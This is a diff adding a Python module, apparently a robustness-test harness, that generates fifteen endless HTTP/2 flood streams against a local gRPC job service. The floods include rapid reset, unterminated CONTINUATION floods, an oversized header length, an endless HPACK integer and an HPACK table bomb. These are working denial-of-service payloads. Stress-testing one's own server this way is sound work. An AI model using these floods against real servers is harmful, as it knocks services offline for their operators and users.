@@ -1,0 +1,149 @@
+"""HTTP/2 as bytes: what a peer may say below gRPC, well and ill (RFC 9113, RFC 7541). A flood is an opening and what follows
+without end."""
+import itertools
+import random
+import struct
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+OPENING = PREFACE + frame(SETTINGS)
+
+
+def integer(value, bits, first=0):
+    """An integer of HPACK, below whose `bits` lies `first`."""
+    most = (1 << bits) - 1
+    if value < most:
+        return bytes([first | value])
+    out, value = [first | most], value - most
+    while value >= 128:
+        out.append(value % 128 | 128)
+        value //= 128
+    return bytes([*out, value])
+
+
+def text(value):
+    return integer(len(value), 7) + value
+
+
+def remembered(name, value):
+    """A header that later blocks may name by a number."""
+    return b"\x40" + text(name) + text(value)
+
+
+def request(path, token=None):
+    """The first header block of a connection, and a short block that repeats it."""
+    fields = [(b":path", path), (b":authority", b"127.0.0.1"), (b"te", b"trailers"), (b"content-type", b"application/grpc")]
+    if token:
+        fields.append((b"authorization", b"Bearer " + token))
+    plain = b"\x83\x86"  # POST, http.
+    first = plain + b"".join(remembered(*field) for field in fields)
+    return first, plain + bytes(0x80 | 61 + len(fields) - i for i in range(len(fields)))
+
+
+def message(content=b""):
+    return b"\0" + struct.pack(">I", len(content)) + content
+
+
+PATH = b"/trainyard.v1.JobService/ListJobs"
+
+
+def _streams(path, token, each):
+    """Opens streams one after the other; `each` is what follows a stream's headers."""
+    first, again = request(path, token)
+    yield frame(HEADERS, END_HEADERS, 1, first) + each(1)
+    numbers = itertools.count(3, 2)
+    while True:
+        yield b"".join(frame(HEADERS, END_HEADERS, n, again) + each(n) for n in itertools.islice(numbers, 1000))
+
+
+def rapid_reset(rng, token):
+    code = struct.pack(">I", rng.choice([0, 5, 8]))
+    return _streams(PATH, token, lambda n: frame(RST_STREAM, 0, n, code))
+
+
+def half_open(rng, token):
+    return _streams(PATH, token, lambda n: b"")
+
+
+def calls_cut_short(rng, token):
+    """Whole calls, each reset at once."""
+    code = struct.pack(">I", 8)
+    return _streams(PATH, token, lambda n: frame(DATA, END_STREAM, n, message()) + frame(RST_STREAM, 0, n, code))
+
+
+def _repeat(opening, piece, size=1 << 16):
+    yield opening
+    block = piece * max(1, size // len(piece))
+    while True:
+        yield block
+
+
+def _call(token):
+    """A call that stays open."""
+    return frame(HEADERS, END_HEADERS, 1, request(PATH, token)[0])
+
+
+def settings(rng, token):
+    pairs = b"".join(struct.pack(">HI", rng.choice([3, 4, 6]), rng.randrange(1 << 16, 1 << 17)) for _ in range(rng.choice([0, 1, 4])))
+    return _repeat(_call(token), frame(SETTINGS, 0, 0, pairs))
+
+
+def ping(rng, token):
+    return _repeat(_call(token), frame(PING, rng.choice([0, ACK]), 0, rng.randbytes(8)))
+
+
+def priority(rng, token):
+    return _repeat(_call(token), frame(PRIORITY, 0, rng.choice([1, 3, 101]), struct.pack(">IB", 0, rng.randrange(256))))
+
+
+def window_update(rng, token):
+    return _repeat(_call(token), frame(WINDOW_UPDATE, 0, rng.choice([1, 5]), struct.pack(">I", 1)))
+
+
+def empty_data(rng, token):
+    return _repeat(_call(token), frame(DATA, 0, 1))
+
+
+def unknown(rng, token):
+    return _repeat(_call(token), frame(rng.randrange(11, 256), rng.randrange(256), 1, rng.randbytes(rng.choice([0, 3]))))
+
+
+def continuation(rng, token):
+    """A header block that never ends, of many small headers."""
+    piece = b"".join(b"\0" + text(b"x%03d" % i) + text(rng.randbytes(4).hex().encode()) for i in range(900))
+    return _repeat(frame(HEADERS, 0, 1, request(PATH, token)[0]), frame(CONTINUATION, 0, 1, piece))
+
+
+def empty_continuation(rng, token):
+    return _repeat(frame(HEADERS, 0, 1, request(PATH, token)[0]), frame(CONTINUATION, 0, 1))
+
+
+def endless_string(rng, token):
+    """One header whose value is said to have two gigabytes."""
+    opening = request(PATH, token)[0] + b"\0" + text(b"x") + integer((1 << 31) - 1, 7)
+    return _repeat(frame(HEADERS, 0, 1, opening), frame(CONTINUATION, 0, 1, b"a" * rng.choice([100, 1000, 16000])))
+
+
+def endless_integer(rng, token):
+    return _repeat(frame(HEADERS, 0, 1, request(PATH, token)[0] + b"\xff"), frame(CONTINUATION, 0, 1, b"\x80" * 1000))
+
+
+def bomb(rng, token):
+    """Each byte names a header of 4,000 bytes."""
+    opening = request(PATH, token)[0] + remembered(b"x", b"a" * 3900)
+    return _repeat(frame(HEADERS, 0, 1, opening), frame(CONTINUATION, 0, 1, b"\xbe" * 16000))
+
+
+def table_sizes(rng, token):
+    return _repeat(frame(HEADERS, 0, 1, request(PATH, token)[0]), frame(CONTINUATION, 0, 1, (b"\x20" + integer(4096, 5, 0x20)) * 3000))
+
+
+FLOODS = [rapid_reset, half_open, calls_cut_short, settings, ping, priority, window_update, empty_data, unknown, continuation,
+          empty_continuation, endless_string, endless_integer, bomb, table_sizes]
